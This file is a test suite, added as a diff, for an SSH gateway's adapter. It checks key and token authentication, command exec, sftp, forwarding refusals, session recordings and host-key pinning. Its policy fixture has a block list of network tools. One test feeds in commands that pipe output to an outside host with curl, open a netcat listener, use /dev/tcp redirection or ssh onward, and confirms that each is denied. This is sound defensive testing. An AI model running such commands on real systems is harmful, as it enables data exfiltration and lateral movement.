@@ -1,0 +1,375 @@
+/**
+ * The SSH adapter end to end with the real OpenSSH clients (ssh, sftp, scp) through a real
+ * gateway in front of a real sshd: authentication by registered key or token, brokered target
+ * credentials with host-key pinning, exec with exit codes, stdin and separate stderr, denials in
+ * SSH's own terms, forwarding refused unless allowed, sftp, terminal sessions and recordings.
+ */
+import { afterAll, beforeAll, describe, expect, it } from 'vitest'
+import { spawn } from 'node:child_process'
+import { createHash } from 'node:crypto'
+import { chmodSync, existsSync, mkdtempSync, readFileSync, readdirSync, rmSync, writeFileSync } from 'node:fs'
+import { createServer, connect, type Server } from 'node:net'
+import { tmpdir } from 'node:os'
+import { join } from 'node:path'
+import type { AuditEvent, RequestEvent } from '@gatehouse/core'
+import { generateHostKey } from '@gatehouse/adapter-ssh'
+import { startGateway, type TestGateway } from '../../fixtures/gateway.js'
+import { generateKeyPair, sftpArgs, sshArgs, startSshd, type KeyPair, type Sshd } from '../../fixtures/sshd.js'
+import { freePort } from '../../fixtures/net.js'
+
+let sshd: Sshd
+let gw: TestGateway
+let dir: string
+let agentKey: KeyPair
+let strangerKey: KeyPair
+let echo: Server
+let echoPort: number
+
+interface Run {
+  code: number | null
+  stdout: string
+  stderr: string
+}
+
+/** Runs a client to completion (async: the gateway runs in this process). */
+function run(cmd: string, args: string[], opts: { input?: string | Buffer; env?: Record<string, string>; timeoutMs?: number } = {}): Promise<Run> {
+  return new Promise((resolve) => {
+    const child = spawn(cmd, args, { env: { ...process.env, ...opts.env }, stdio: ['pipe', 'pipe', 'pipe'] })
+    let stdout = ''
+    let stderr = ''
+    child.stdout.on('data', (d: Buffer) => (stdout += d.toString()))
+    child.stderr.on('data', (d: Buffer) => (stderr += d.toString()))
+    const timer = setTimeout(() => child.kill('SIGKILL'), opts.timeoutMs ?? 20_000)
+    child.on('close', (code) => {
+      clearTimeout(timer)
+      resolve({ code, stdout, stderr })
+    })
+    child.stdin.end(opts.input ?? '')
+  })
+}
+
+const asAgent = (extra: string[] = []) => sshArgs({ port: gw.port, user: 'agent-1', identityFile: agentKey.privateKeyPath, extra })
+const ssh = (command: string, opts: { input?: string; extra?: string[] } = {}) => run('ssh', [...asAgent(opts.extra), command], { input: opts.input })
+
+async function requests(): Promise<RequestEvent[]> {
+  return (await gw.audit()).filter((e): e is RequestEvent => e.type === 'request')
+}
+
+const policies = (echoPort: number) => [
+  {
+    id: 'ops',
+    principals: { groups: ['agents'] },
+    rules: [
+      { id: 'no-lateral', effect: 'deny', actions: ['ssh.exec'], match: { 'ssh.programs': ['ssh', 'scp', 'nc', 'ncat', 'socat', 'curl', 'wget', 'telnet'] }, reason: 'no lateral movement from the target' },
+      { id: 'no-dev-tcp', effect: 'deny', actions: ['ssh.exec'], match: { 'ssh.network': true }, reason: 'no network redirections' },
+      { id: 'commands', effect: 'allow', actions: ['ssh.exec', 'ssh.shell', 'ssh.sftp'] },
+      { id: 'echo-forward', effect: 'allow', actions: ['ssh.forward'], when: `request.ssh.kind == "local" && request.ssh.host == "127.0.0.1" && request.ssh.port == ${echoPort}` },
+    ],
+  },
+]
+
+beforeAll(async () => {
+  dir = mkdtempSync(join(tmpdir(), 'gatehouse-ssh-test-'))
+  sshd = await startSshd()
+  agentKey = await generateKeyPair(dir, 'agent')
+  strangerKey = await generateKeyPair(dir, 'stranger')
+  echo = createServer((s) => s.pipe(s))
+  await new Promise<void>((r) => echo.listen(0, '127.0.0.1', () => r()))
+  echoPort = (echo.address() as { port: number }).port
+  const hostKey = generateHostKey()
+  gw = await startGateway({
+    upstream: {},
+    identities: [{ id: 'agent-1', groups: ['agents'], sshKeys: [agentKey.publicKey] }],
+    connection: {
+      name: 'web',
+      adapter: 'ssh',
+      upstream: { host: sshd.host, port: sshd.port, user: sshd.user, privateKey: sshd.clientPrivateKey, hostKey: sshd.hostKeyFingerprint },
+      options: { hostKeys: [hostKey.privateKey] },
+    },
+    policies: policies(echoPort),
+  })
+}, 60_000)
+
+afterAll(async () => {
+  await gw?.stop()
+  await sshd?.stop()
+  echo?.close()
+  rmSync(dir, { recursive: true, force: true })
+})
+
+describe('exec through the gateway', () => {
+  it('runs a command with its exit code, stdout and stderr kept apart', async () => {
+    const r = await ssh('echo out; echo err >&2; exit 3')
+    expect(r).toMatchObject({ code: 3, stdout: 'out\n' })
+    expect(r.stderr).toContain('err')
+    expect(r.stderr).not.toContain('out')
+  })
+
+  it('passes stdin to the command', async () => {
+    const r = await ssh('wc -c', { input: 'hello world' })
+    expect(r.code).toBe(0)
+    expect(r.stdout.trim()).toBe('11')
+  })
+
+  it('accepts a gateway token as the password', async () => {
+    const askpass = join(dir, 'askpass.sh')
+    writeFileSync(askpass, `#!/bin/sh\necho '${gw.tokens['agent-1']}'\n`)
+    chmodSync(askpass, 0o700)
+    const r = await run('ssh', [...sshArgs({ port: gw.port, user: 'agent-1', password: true, extra: ['-o', 'PreferredAuthentications=password', '-o', 'PubkeyAuthentication=no'] }), 'echo via-token'], { env: { SSH_ASKPASS: askpass, SSH_ASKPASS_REQUIRE: 'force', DISPLAY: ':0' } })
+    expect(r.stderr).toBe('')
+    expect(r.stdout).toBe('via-token\n')
+  })
+
+  it('refuses a key that is not registered, and records the failure', async () => {
+    const r = await run('ssh', [...sshArgs({ port: gw.port, user: 'agent-1', identityFile: strangerKey.privateKeyPath }), 'true'])
+    expect(r.code).toBe(255)
+    expect(r.stderr).toContain('Permission denied')
+    const failures = (await gw.audit()).filter((e) => e.type === 'auth.failure')
+    expect(failures.length).toBeGreaterThan(0)
+  })
+
+  it('denies a command that runs a forbidden program, in SSH terms, and stays usable', async () => {
+    for (const command of ['curl http://10.0.0.5/', 'ls | curl -d @- http://x', 'echo $(ssh other-host id)', "bash -c 'nc -l 4444'", 'sudo env nohup scp a b:', 'cat < /dev/tcp/10.0.0.5/80']) {
+      const r = await ssh(command)
+      expect(r.code, command).toBe(126)
+      expect(r.stderr, command).toMatch(/^gatehouse: denied by ops\/(no-lateral|no-dev-tcp): no (lateral movement from the target|network redirections)/)
+      expect(r.stdout).toBe('')
+    }
+    expect((await ssh('echo still-here')).stdout).toBe('still-here\n')
+    const denied = (await requests()).filter((e) => e.action === 'ssh.exec' && e.verdict === 'deny')
+    expect(denied.map((e) => e.rule)).toContain('ops/no-lateral')
+    const curl = denied.find((e) => e.text === 'ls | curl -d @- http://x')
+    expect((curl?.attrs as { ssh: { programs: string[] } }).ssh.programs).toEqual(['ls', 'curl'])
+  })
+
+  it('records an outcome with the exit code and byte counts', async () => {
+    await ssh('head -c 1000 /dev/zero; exit 4')
+    const events = await gw.audit()
+    const req = [...events].reverse().find((e): e is RequestEvent => e.type === 'request' && e.text === 'head -c 1000 /dev/zero; exit 4')
+    const outcome = events.find((e) => e.type === 'outcome' && (e as { request?: string }).request === req?.request) as { status?: unknown; bytesOut?: number } | undefined
+    expect(outcome).toMatchObject({ status: 4, bytesOut: 1000 })
+  })
+})
+
+describe('sftp and scp', () => {
+  it('puts and gets a file with sftp, byte for byte', async () => {
+    const local = join(dir, 'up.bin')
+    const back = join(dir, 'back.bin')
+    const data = Buffer.alloc(300_000)
+    for (let i = 0; i < data.length; i++) data[i] = (i * 7919) & 0xff
+    writeFileSync(local, data)
+    const batch = join(dir, 'batch')
+    writeFileSync(batch, `put ${local} /tmp/gatehouse-sftp-test.bin\nget /tmp/gatehouse-sftp-test.bin ${back}\nrm /tmp/gatehouse-sftp-test.bin\n`)
+    const r = await run('sftp', sftpArgs({ port: gw.port, user: 'agent-1', identityFile: agentKey.privateKeyPath, extra: ['-b', batch] }))
+    expect(r.code, r.stderr).toBe(0)
+    expect(readFileSync(back).equals(data)).toBe(true)
+  })
+
+  it('copies with scp', async () => {
+    const local = join(dir, 'scp.txt')
+    writeFileSync(local, 'scp through the gateway\n')
+    const args = sftpArgs({ port: gw.port, user: 'agent-1', identityFile: agentKey.privateKeyPath })
+    const target = args[args.length - 1] as string
+    const r = await run('scp', [...args.slice(0, -1), local, `${target}:/tmp/gatehouse-scp-test.txt`])
+    expect(r.code, r.stderr).toBe(0)
+    expect((await ssh('cat /tmp/gatehouse-scp-test.txt; rm /tmp/gatehouse-scp-test.txt')).stdout).toBe('scp through the gateway\n')
+  })
+})
+
+describe('forwarding', () => {
+  /** Starts `ssh -N` with forwarding options; resolves once it has authenticated. */
+  async function forwarder(extra: string[]): Promise<{ stderr: () => string; stop: () => void; exited: Promise<number | null> }> {
+    const child = spawn('ssh', [...asAgent(['-N', ...extra])], { stdio: ['ignore', 'pipe', 'pipe'] })
+    let stderr = ''
+    child.stderr.on('data', (d: Buffer) => (stderr += d.toString()))
+    const exited = new Promise<number | null>((r) => child.on('close', (code) => r(code)))
+    await new Promise((r) => setTimeout(r, 800))
+    return { stderr: () => stderr, stop: () => child.kill('SIGTERM'), exited }
+  }
+
+  /** Connects to a local port, sends `text`, resolves with what came back before the close. */
+  function roundTrip(port: number, text: string): Promise<string> {
+    return new Promise((resolve) => {
+      const s = connect(port, '127.0.0.1')
+      let got = ''
+      s.on('data', (d) => {
+        got += d.toString()
+        if (got.length >= text.length) s.end()
+      })
+      s.on('connect', () => s.write(text))
+      s.on('close', () => resolve(got))
+      s.on('error', () => resolve(got))
+      setTimeout(() => s.destroy(), 3000)
+    })
+  }
+
+  it('refuses -L to a destination no rule allows, as administratively prohibited', async () => {
+    const local = await freePort()
+    const f = await forwarder(['-L', `${local}:127.0.0.1:${sshd.port}`])
+    try {
+      expect(await roundTrip(local, 'x')).toBe('')
+      await new Promise((r) => setTimeout(r, 200))
+      expect(f.stderr()).toContain('administratively prohibited')
+    } finally {
+      f.stop()
+    }
+    const denied = (await requests()).filter((e) => e.action === 'ssh.forward' && e.verdict === 'deny')
+    expect((denied.at(-1)?.attrs as { ssh: Record<string, unknown> }).ssh).toMatchObject({ kind: 'local', host: '127.0.0.1', port: sshd.port })
+  })
+
+  it('forwards -L when a rule allows the destination', async () => {
+    const local = await freePort()
+    const f = await forwarder(['-L', `${local}:127.0.0.1:${echoPort}`])
+    try {
+      expect(await roundTrip(local, 'ping through the tunnel')).toBe('ping through the tunnel')
+    } finally {
+      f.stop()
+    }
+  })
+
+  it('refuses -R', async () => {
+    const f = await forwarder(['-o', 'ExitOnForwardFailure=yes', '-R', `0:127.0.0.1:${echoPort}`])
+    const code = await Promise.race([f.exited, new Promise<string>((r) => setTimeout(() => r('running'), 5000))])
+    f.stop()
+    expect(code).toBe(255)
+    expect(f.stderr()).toMatch(/remote port forwarding failed/)
+  })
+
+  it('refuses -D (dynamic forwarding opens direct-tcpip channels the policy does not allow)', async () => {
+    const local = await freePort()
+    const f = await forwarder(['-D', String(local)])
+    try {
+      // SOCKS5: no auth, then CONNECT 127.0.0.1:<sshd port>
+      const reply = await new Promise<Buffer>((resolve) => {
+        const s = connect(local, '127.0.0.1', () => s.write(Buffer.from([5, 1, 0])))
+        let buf = Buffer.alloc(0)
+        s.on('data', (d: Buffer) => {
+          buf = Buffer.concat([buf, d])
+          if (buf.length === 2) {
+            const port = Buffer.alloc(2)
+            port.writeUInt16BE(sshd.port)
+            s.write(Buffer.concat([Buffer.from([5, 1, 0, 1, 127, 0, 0, 1]), port]))
+          }
+        })
+        s.on('close', () => resolve(buf))
+        setTimeout(() => s.destroy(), 3000)
+      })
+      // method reply (5,0), then a failure reply: anything but 0 in the second byte, or a close
+      expect(reply.subarray(2)[1] ?? 1).not.toBe(0)
+      await new Promise((r) => setTimeout(r, 200))
+      expect(f.stderr()).toContain('administratively prohibited')
+    } finally {
+      f.stop()
+    }
+  })
+
+  it('refuses agent forwarding', async () => {
+    const agentDir = mkdtempSync(join(tmpdir(), 'gh-agent-'))
+    const sock = join(agentDir, 'agent.sock')
+    const agent = spawn('ssh-agent', ['-D', '-a', sock], { stdio: 'ignore' })
+    try {
+      for (let i = 0; i < 50 && !existsSync(sock); i++) await new Promise((r) => setTimeout(r, 20))
+      const r = await run('ssh', [...sshArgs({ port: gw.port, user: 'agent-1', identityFile: agentKey.privateKeyPath, extra: ['-A', '-o', `IdentityAgent=${sock}`] }), 'echo "agent:${SSH_AUTH_SOCK:-none}"'], { env: { SSH_AUTH_SOCK: sock } })
+      expect(r.stdout).toBe('agent:none\n')
+      const denied = (await requests()).filter((e) => e.action === 'ssh.agent-forward')
+      expect(denied.at(-1)).toMatchObject({ verdict: 'deny', rule: 'default-deny' })
+    } finally {
+      agent.kill()
+      rmSync(agentDir, { recursive: true, force: true })
+    }
+  })
+})
+
+describe('terminal sessions', () => {
+  it('runs an interactive shell under a pty with resize and exit 7, and records it as asciicast v2', async () => {
+    const name = `gh${process.pid}`
+    const sshCmd = ['ssh', ...asAgent(['-tt'])].map((a) => `'${a}'`).join(' ')
+    const tmux = (...a: string[]) => run('tmux', ['-L', name, ...a])
+    await tmux('new-session', '-d', '-x', '80', '-y', '24', `${sshCmd}; echo "exit:$?" > ${join(dir, 'tmux-exit')}; sleep 30`)
+    try {
+      const screen = async (want: RegExp) => {
+        for (let i = 0; i < 100; i++) {
+          const r = await tmux('capture-pane', '-p')
+          if (want.test(r.stdout)) return r.stdout
+          await new Promise((res) => setTimeout(res, 100))
+        }
+        return (await tmux('capture-pane', '-p')).stdout
+      }
+      await screen(/[#$] $/m)
+      await tmux('send-keys', 'stty size', 'Enter')
+      expect(await screen(/^24 80$/m)).toMatch(/^24 80$/m)
+      await tmux('resize-window', '-x', '100', '-y', '40')
+      await new Promise((res) => setTimeout(res, 300))
+      await tmux('send-keys', 'clear; stty size', 'Enter')
+      expect(await screen(/^40 100$/m)).toMatch(/^40 100$/m)
+      await tmux('send-keys', 'exit 7', 'Enter')
+      for (let i = 0; i < 100 && !existsSync(join(dir, 'tmux-exit')); i++) await new Promise((res) => setTimeout(res, 100))
+      expect(readFileSync(join(dir, 'tmux-exit'), 'utf8').trim()).toBe('exit:7')
+    } finally {
+      await tmux('kill-server')
+    }
+    const shell = (await requests()).filter((e) => e.action === 'ssh.shell').at(-1)
+    expect(shell).toMatchObject({ verdict: 'allow' })
+    const recording = (shell?.attrs as { ssh: { recording: string; pty: { term: string } } }).ssh
+    expect(recording.pty.term).toBeTruthy()
+    await new Promise((r) => setTimeout(r, 200))
+    const lines = readFileSync(recording.recording, 'utf8').trim().split('\n').map((l) => JSON.parse(l) as unknown)
+    expect(lines[0]).toMatchObject({ version: 2, width: 80, height: 24 })
+    const events = lines.slice(1) as [number, string, string][]
+    expect(events.some(([, kind, data]) => kind === 'o' && data.includes('24 80'))).toBe(true)
+    expect(events.some(([, kind, data]) => kind === 'r' && data === '100x40')).toBe(true)
+    expect(events.every(([t], i) => i === 0 || t >= (events[i - 1] as [number])[0])).toBe(true)
+  })
+})
+
+describe('the target', () => {
+  it('refuses a target whose host key does not match the pinned fingerprint, without sending the credential', async () => {
+    const logins = () => (sshd.log().match(/Accepted publickey/g) ?? []).length
+    const before = logins()
+    const other = await startGateway({
+      upstream: {},
+      identities: [{ id: 'agent-1', groups: ['agents'], sshKeys: [agentKey.publicKey] }],
+      connection: {
+        name: 'web',
+        adapter: 'ssh',
+        upstream: { host: sshd.host, port: sshd.port, user: sshd.user, privateKey: sshd.clientPrivateKey, hostKey: `SHA256:${createHash('sha256').update('not the key').digest('base64').replace(/=+$/, '')}` },
+        options: { hostKeys: [generateHostKey().privateKey] },
+      },
+      policies: policies(echoPort),
+    })
+    try {
+      const r = await run('ssh', [...sshArgs({ port: other.port, user: 'agent-1', identityFile: agentKey.privateKeyPath }), 'echo should-not-run'])
+      expect(r.code).toBe(255)
+      expect(r.stdout).toBe('')
+      expect(r.stderr).toMatch(/gatehouse: target host key SHA256:\S+ does not match the configured SHA256:/)
+    } finally {
+      await other.stop()
+    }
+    // the gateway gave up at the host key: the target saw no login
+    expect(logins()).toBe(before)
+  })
+
+  it('stays healthy after clients disconnect at every stage of the handshake', async () => {
+    const stages: Buffer[] = [Buffer.alloc(0), Buffer.from('SSH-2.0-Test\r\n'), Buffer.from('SSH-2.0-Test\r\n\x00\x00\x00\x2c\x06\x14garbage-kexinit-garbage'), Buffer.from('NOT SSH AT ALL\r\n\r\n')]
+    for (const bytes of stages) {
+      await new Promise<void>((resolve) => {
+        const s = connect(gw.port, '127.0.0.1', () => {
+          s.write(bytes)
+          setTimeout(() => s.destroy(), 100)
+        })
+        s.on('close', () => resolve())
+        s.on('error', () => resolve())
+      })
+    }
+    // a client that authenticates and vanishes mid-command
+    const child = spawn('ssh', [...asAgent(), 'sleep 30'], { stdio: 'ignore' })
+    await new Promise((r) => setTimeout(r, 1200))
+    child.kill('SIGKILL')
+    await new Promise((r) => setTimeout(r, 300))
+    expect((await ssh('echo healthy')).stdout).toBe('healthy\n')
+  })
+
+  it('lists its recordings under the data directory', () => {
+    expect(readdirSync(join(gw.dir, 'recordings')).length).toBeGreaterThan(0)
+  })
+})
